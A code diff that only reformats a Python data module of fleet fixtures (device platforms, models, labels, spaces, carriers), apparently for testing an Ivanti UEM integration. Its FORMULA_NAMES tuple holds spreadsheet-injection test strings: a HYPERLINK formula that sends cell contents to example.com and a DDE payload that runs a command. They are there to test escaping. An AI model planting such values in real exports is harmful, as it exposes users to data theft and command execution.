@@ -1,7 +1,8 @@
 # Copyright (c) 2026 ivanti.uem contributors
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""What fleets are made of: platforms, models, systems, statuses, reasons, spaces, labels. Data only."""
+"""What fleets are made of: platforms, models, systems, statuses, reasons, spaces, labels. Data
+only."""
 
 from __future__ import annotations
 
@@ -20,7 +21,8 @@ class Model:
 
 @dataclass(frozen=True)
 class Platform:
-    """One platform as Core names it: its share of the fleet, models, and systems (version, build), newest first."""
+    """One platform as Core names it: its share of the fleet, models, and systems (version, build),
+    newest first."""
 
     name: str
     weight: int
@@ -29,6 +31,7 @@ class Platform:
     mac: str
 
 
+# fmt: off
 PLATFORMS = (
     Platform("iOS", 45, (
         Model("iPhone 15", "iPhone15,4", "Apple"), Model("iPhone 14", "iPhone14,7", "Apple"),
@@ -63,6 +66,7 @@ REASON_WEIGHTS = (
     (0x2, 30), (0x20, 25), (0x8, 12), (0x10, 10), (0x40, 4), (0x1000, 5), (0x2000, 6), (0x4000, 2), (0x800, 5), (0x1, 4),
     (0x4, 2), (0x100, 1), (0x8000, 3), (0x10000, 3), (0x80, 1), (0x400, 1),
 )
+# fmt: on
 
 #: (name, criteria) of the spaces below the global one. A further one is fed by a comment.
 SPACES = (
@@ -71,6 +75,7 @@ SPACES = (
 )
 
 #: System labels: (id, name, description, query). An empty query finds everything. Of the ids, -1 and -3 are documented.
+# fmt: off
 SYSTEM_LABELS = (
     (-1, "All-Smartphones", "Label for all devices irrespective of OS", ""),
     (-2, "Company-Owned", "Label for all Company owned smartphones.", '"common.owner" = "COMPANY" AND "common.retired" = false'),
@@ -99,10 +104,15 @@ LABELS: tuple[tuple[str, str, str | None, float, int], ...] = (
     ("Everything", "Filtered, with an empty criterion", "", 0.0, 0),
     ("EMEA loaners", "Of a space", None, 0.25, 1),
 )
+# fmt: on
 
 #: Names which a table program takes for formulas, or a careless reader of CSV for more than one field.
 FORMULA_NAMES = (
-    '=HYPERLINK("http://example.com/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-555-0100", "\t=1+1", 'said "a,b";c',
+    '=HYPERLINK("http://example.com/?q="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-555-0100",
+    "\t=1+1",
+    'said "a,b";c',
 )
 
 OPERATORS = ("Verizon", "AT&T", "T-Mobile", "Vodafone.de", "ドコモ")
